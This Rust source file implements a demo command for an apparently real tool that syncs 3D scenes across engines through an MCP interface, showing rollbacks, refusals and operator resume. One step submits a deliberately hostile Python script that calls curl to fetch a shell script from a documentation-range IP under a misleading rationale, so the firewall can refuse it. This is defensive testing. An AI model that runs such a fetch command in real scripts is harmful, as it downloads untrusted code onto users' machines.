//! `vibesync demo`: the first run, end to end, with real processes.
//!
//! It makes a throw-away project, pairs two reference engines (one in
//! Blender's convention, one in Unity's), starts `vibesync serve` as a child
//! process and drives it as an AI agent would: through the real MCP
//! interface over stdio. Every step prints what the agent asked, what the
//! host answered and why. Faults are switched on in the reference engines
//! through their control lines (stdin), exactly as the fault tests do.

use std::path::{Path, PathBuf};
use std::process::{ExitCode, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context as _, bail};
use clap::Args;
use rmcp::ServiceExt;
use rmcp::model::{CallToolRequestParams, CallToolResult};
use rmcp::service::{RoleClient, RunningService};
use rmcp::transport::TokioChildProcess;
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt};
use tokio::process::{Child, Command};

use crate::config::{EngineConfig, EngineKind};

#[derive(Debug, Args)]
pub struct DemoArgs {
    /// Keep the demo's project directory (WAL, logs) instead of deleting it.
    #[arg(long)]
    pub keep: bool,
}

type Client = RunningService<RoleClient, ()>;

struct Engine {
    child: Child,
    stdout: tokio::io::Lines<tokio::io::BufReader<tokio::process::ChildStdout>>,
}

impl Engine {
    /// Waits for the engine to print a line starting with `prefix`.
    async fn wait_line(&mut self, prefix: &str) -> anyhow::Result<String> {
        while let Some(line) = self.stdout.next_line().await? {
            if line.starts_with(prefix) {
                return Ok(line);
            }
        }
        bail!("the engine exited before printing `{prefix}`")
    }

    async fn control(&mut self, line: &str) -> anyhow::Result<()> {
        let stdin = self.child.stdin.as_mut().context("engine stdin")?;
        stdin.write_all(format!("{line}\n").as_bytes()).await?;
        stdin.flush().await?;
        Ok(())
    }

    /// [`Engine::control`], then wait until the engine has acted on it:
    /// control lines are handled in order, so the answer to a `status` after
    /// it proves it (else an intent sent right away can get there first).
    async fn control_applied(&mut self, line: &str) -> anyhow::Result<()> {
        self.control(line).await?;
        self.control("status").await?;
        self.wait_line("STATUS").await.map(drop)
    }
}

pub fn run(args: DemoArgs) -> anyhow::Result<ExitCode> {
    let dir = std::env::temp_dir().join(format!("vibesync-demo-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let rt = tokio::runtime::Runtime::new()?;
    let result = rt.block_on(demo(&dir));
    if args.keep || result.is_err() {
        println!(
            "\nproject directory kept: {} (serve.log has the host's log)",
            dir.display()
        );
    } else {
        let _ = std::fs::remove_dir_all(&dir);
    }
    result.map(|()| ExitCode::SUCCESS)
}

fn step(title: &str) {
    println!("\n\x1b[1m== {title}\x1b[0m");
}

async fn demo(dir: &Path) -> anyhow::Result<()> {
    let exe = std::env::current_exe()?;
    let state = dir.join("state");
    let port = crate::ports::free_loopback_udp_port()?;
    let config_path = dir.join("vibesync.toml");
    std::fs::write(
        &config_path,
        format!(
            "state_dir = {state:?}\nproject_root = {dir:?}\n\n[link]\nlisten = \"127.0.0.1:{port}\"\n\n\
             [[engines]]\nname = \"blender\"\nkind = \"reference\"\n\n[[engines]]\nname = \"unity\"\nkind = \"reference\"\n",
            state = state.display().to_string(),
            dir = dir.display().to_string(),
        ),
    )?;
    let engines = [
        EngineConfig {
            name: "blender".into(),
            kind: EngineKind::Reference,
        },
        EngineConfig {
            name: "unity".into(),
            kind: EngineKind::Reference,
        },
    ];
    crate::init::init(
        &state,
        &engines,
        format!("127.0.0.1:{port}").parse()?,
        false,
    )?;

    step("start the host: `vibesync serve` (MCP on stdio, QUIC for engines)");
    let log = std::fs::File::create(dir.join("serve.log"))?;
    let mut serve = Command::new(&exe);
    serve.arg("serve").arg("--config").arg(&config_path);
    let (transport, _) = TokioChildProcess::builder(serve)
        .stderr(Stdio::from(log))
        .spawn()?;
    let client: Client = ().serve(transport).await.context("MCP handshake with `vibesync serve`")?;
    let tools = client.list_all_tools().await?;
    println!(
        "agent sees {} tools: {}",
        tools.len(),
        tools
            .iter()
            .map(|t| t.name.as_ref())
            .collect::<Vec<_>>()
            .join(", ")
    );

    step("connect two reference engines (Blender-like RH +Z up, Unity-like LH +Y up)");
    let mut blender = spawn_engine(&exe, &state, "blender", "blender")?;
    let mut unity = spawn_engine(&exe, &state, "unity", "unity")?;
    wait_until(
        &client,
        Duration::from_secs(20),
        "both engines connected",
        |v| {
            v["engines"]
                .as_array()
                .is_some_and(|e| e.len() == 2 && e.iter().all(|e| e["connected"] == true))
        },
    )
    .await?;
    println!(
        "blender and unity connected over QUIC (TLS 1.3, pinned certificate, HMAC-signed frames)"
    );

    step("create a cube and move it: synced and verified on both engines");
    // Every later step needs the cube. On a machine busy enough that an
    // engine's verify misses its deadline the transaction rolls back (the
    // product working as designed); the demo then says why and asks once more.
    for attempt in 1.. {
        let version = scene_version(&client).await?;
        let out = call(&client, "submit_intent", json!({
            "ops": [
                {"op": "create_object", "args": {"id": "cube", "name": "Cube", "kind": "mesh", "primitive": "cube"}},
                {"op": "set_transform", "args": {"id": "cube", "translation": [1.0, 0.5, -2.0], "rotation": [0.0, 0.38268343, 0.0, 0.92387953]}},
            ],
            "rationale": "add a cube to the table and turn it 45 degrees so the camera sees two faces",
            "scene_version": version,
        }))
        .await?;
        let answer = expect_ok(&out, "submit_intent")?;
        let tid = answer["tid"].as_u64().context("tid")?;
        println!("answer: {}", answer["note"].as_str().unwrap_or_default());
        let final_phase = wait_final(&client, tid).await?;
        println!("tid {tid} -> {final_phase}");
        if final_phase == "committed" {
            break;
        }
        let why = why(&client, tid).await?;
        if attempt == 2 {
            bail!("the cube was rolled back twice, the second time because: {why}");
        }
        println!("  rolled back because: {why}; submitting it again");
    }
    let verify = expect_ok(
        &call(&client, "verify_engine_state", json!({})).await?,
        "verify_engine_state",
    )?
    .clone();
    for e in verify["engines"].as_array().into_iter().flatten() {
        println!(
            "  {:<8} engine hash {}  matches canonical: {}",
            e["engine"].as_str().unwrap_or("?"),
            short(&e["engine_hash"]),
            e["matches"]
        );
    }

    step("a NaN in a transform is refused before any engine sees it");
    let version = scene_version(&client).await?;
    let out = call(&client, "submit_intent", json!({
        "ops": [{"op": "set_transform", "args": {"id": "cube", "translation": [0.0, "NaN", 0.0]}}],
        "rationale": "nudge the cube up a little so it rests on the table",
        "scene_version": version,
    }))
    .await?;
    print_refusal(&out)?;

    step("a hostile script is refused by the firewall, with its finding");
    let out = call(&client, "run_script", json!({
        "language": "python",
        "code": "import bpy\nimport subprocess\nsubprocess.run(['curl', 'http://203.0.113.9/x.sh'])",
        "rationale": "refresh the scene's lighting setup from the studio preset",
        "scene_version": version,
    }))
    .await?;
    print_refusal(&out)?;

    step("an engine that lies about its state: the change is rolled back on both engines");
    unity.control_applied("wrong-hash on").await?;
    let out = call(&client, "submit_intent", json!({
        "ops": [{"op": "set_transform", "args": {"id": "cube", "translation": [3.0, 0.5, -2.0]}}],
        "rationale": "slide the cube to the right end of the table",
        "scene_version": version,
    }))
    .await?;
    let tid = expect_ok(&out, "submit_intent")?["tid"]
        .as_u64()
        .context("tid")?;
    println!(
        "answer: provisionally committed (tid {tid}); verification reads both engines back..."
    );
    let phase = wait_final(&client, tid).await?;
    println!("tid {tid} -> {phase}: {}", why(&client, tid).await?);
    unity.control_applied("wrong-hash off").await?;

    step("a hung engine trips PANIC; nothing is mutated until an operator resumes");
    let hung_at = Instant::now();
    blender.control("hang 8000").await?;
    blender.wait_line("HANG").await?;
    let version = scene_version(&client).await?;
    let rename = json!({
        "ops": [{"op": "rename_object", "args": {"id": "cube", "name": "Crate"}}],
        "rationale": "rename the cube to match the props list",
        "scene_version": version,
    });
    println!(
        "blender's main thread stops pumping; the agent submits a rename that blender never applies..."
    );
    let out = call(&client, "submit_intent", rename.clone()).await?;
    println!("after {} ms: {}", hung_at.elapsed().as_millis(), text(&out));
    wait_until_status(&client, Duration::from_secs(10), |v| !v.is_null()).await?;
    let out = call(&client, "submit_intent", rename.clone()).await?;
    print_refusal(&out)?;
    println!("waiting for the engine to come back...");
    tokio::time::sleep(Duration::from_millis(
        8000u64.saturating_sub(hung_at.elapsed().as_millis() as u64) + 1500,
    ))
    .await;
    let resumed = resume(&exe, &config_path, Duration::from_secs(20)).await?;
    println!("operator: `vibesync ctl resume` -> {resumed}");
    let out = call(
        &client,
        "submit_intent",
        json!({
            "ops": [{"op": "rename_object", "args": {"id": "cube", "name": "Crate"}}],
            "rationale": "rename the cube to match the props list",
            "scene_version": scene_version(&client).await?,
        }),
    )
    .await?;
    let tid = expect_ok(&out, "submit_intent")?["tid"]
        .as_u64()
        .context("tid")?;
    println!(
        "after resume: tid {tid} -> {}",
        wait_final(&client, tid).await?
    );
    let verify = expect_ok(
        &call(&client, "verify_engine_state", json!({})).await?,
        "verify_engine_state",
    )?
    .clone();
    println!(
        "all engines agree with the canonical scene: {}",
        verify["all_match"]
    );

    step("the journal (the WAL is the audit record)");
    let journal = expect_ok(
        &call(&client, "get_operation_journal", json!({"limit": 12})).await?,
        "journal",
    )?
    .clone();
    for e in journal["entries"].as_array().into_iter().flatten() {
        println!(
            "  tid {:<3} {:<12} {}",
            e["tid"],
            e["phase"].as_str().unwrap_or(""),
            e["summary"].as_str().unwrap_or("")
        );
    }

    blender.control("quit").await.ok();
    unity.control("quit").await.ok();
    client.cancel().await.ok();
    for mut e in [blender, unity] {
        let _ = tokio::time::timeout(Duration::from_secs(3), e.child.wait()).await;
        let _ = e.child.kill().await;
    }
    println!("\ndone: every step above went through the real MCP, policy, WAL and QUIC paths.");
    Ok(())
}

fn spawn_engine(
    exe: &Path,
    state: &Path,
    name: &'static str,
    convention: &str,
) -> anyhow::Result<Engine> {
    let pairing: PathBuf = crate::orchestrator::boot::pairing_path(state, name);
    let mut child = Command::new(exe)
        .arg("reference-engine")
        .arg("--pairing")
        .arg(pairing)
        .arg("--convention")
        .arg(convention)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .with_context(|| format!("starting reference engine `{name}`"))?;
    let stdout = tokio::io::BufReader::new(child.stdout.take().context("engine stdout")?).lines();
    Ok(Engine { child, stdout })
}

async fn call(client: &Client, tool: &'static str, args: Value) -> anyhow::Result<CallToolResult> {
    let Value::Object(map) = args else {
        bail!("tool arguments must be an object")
    };
    Ok(client
        .call_tool(CallToolRequestParams::new(tool).with_arguments(map))
        .await?)
}

/// The structured result of a successful call.
fn expect_ok<'a>(r: &'a CallToolResult, tool: &str) -> anyhow::Result<&'a Value> {
    if r.is_error == Some(true) {
        bail!("{tool} failed: {}", text(r));
    }
    r.structured_content
        .as_ref()
        .with_context(|| format!("{tool} returned no structured result"))
}

fn text(r: &CallToolResult) -> String {
    r.content
        .iter()
        .filter_map(|c| c.as_text().map(|t| t.text.clone()))
        .collect::<Vec<_>>()
        .join("\n")
}

fn print_refusal(r: &CallToolResult) -> anyhow::Result<()> {
    if r.is_error != Some(true) {
        bail!("expected a refusal, got: {}", text(r));
    }
    for line in text(r).lines() {
        println!("  refused: {line}");
    }
    Ok(())
}

fn short(v: &Value) -> String {
    v.as_str()
        .map_or("-".into(), |s| format!("{}…", &s[..12.min(s.len())]))
}

async fn scene_version(client: &Client) -> anyhow::Result<u64> {
    let r = call(client, "read_scene", json!({})).await?;
    expect_ok(&r, "read_scene")?["version"]
        .as_u64()
        .context("scene version")
}

async fn wait_until(
    client: &Client,
    limit: Duration,
    what: &str,
    ok: impl Fn(&Value) -> bool,
) -> anyhow::Result<()> {
    let start = Instant::now();
    loop {
        let r = call(client, "list_engines", json!({})).await?;
        if ok(expect_ok(&r, "list_engines")?) {
            return Ok(());
        }
        if start.elapsed() > limit {
            bail!("timed out waiting for {what}");
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Polls the scene's PANIC field (null when live).
async fn wait_until_status(
    client: &Client,
    limit: Duration,
    ok: impl Fn(&Value) -> bool,
) -> anyhow::Result<()> {
    let start = Instant::now();
    loop {
        let r = call(client, "read_scene", json!({})).await?;
        if ok(&expect_ok(&r, "read_scene")?["panic"]) {
            return Ok(());
        }
        if start.elapsed() > limit {
            bail!("timed out waiting for PANIC");
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// The transaction record's account of how `tid` ended.
async fn why(client: &Client, tid: u64) -> anyhow::Result<String> {
    let r = call(client, "get_transaction", json!({"tid": tid})).await?;
    let t = expect_ok(&r, "get_transaction")?;
    Ok(t["why"].as_str().unwrap_or_default().to_owned())
}

async fn wait_final(client: &Client, tid: u64) -> anyhow::Result<String> {
    let start = Instant::now();
    loop {
        let r = call(client, "get_transaction", json!({"tid": tid})).await?;
        let t = expect_ok(&r, "get_transaction")?;
        if t["is_final"] == true {
            return Ok(t["phase"].as_str().unwrap_or("?").to_owned());
        }
        if start.elapsed() > Duration::from_secs(20) {
            bail!("tid {tid} did not finish within 20 s");
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// The operator's resume, through the real `vibesync ctl` client; retried
/// while the engine is still being reconciled.
async fn resume(exe: &Path, config: &Path, limit: Duration) -> anyhow::Result<String> {
    let start = Instant::now();
    loop {
        let out = Command::new(exe)
            .arg("ctl")
            .arg("--config")
            .arg(config)
            .arg("resume")
            .output()
            .await?;
        if out.status.success() {
            return Ok("cluster live again".into());
        }
        if start.elapsed() > limit {
            bail!("resume refused: {}", String::from_utf8_lossy(&out.stderr));
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}
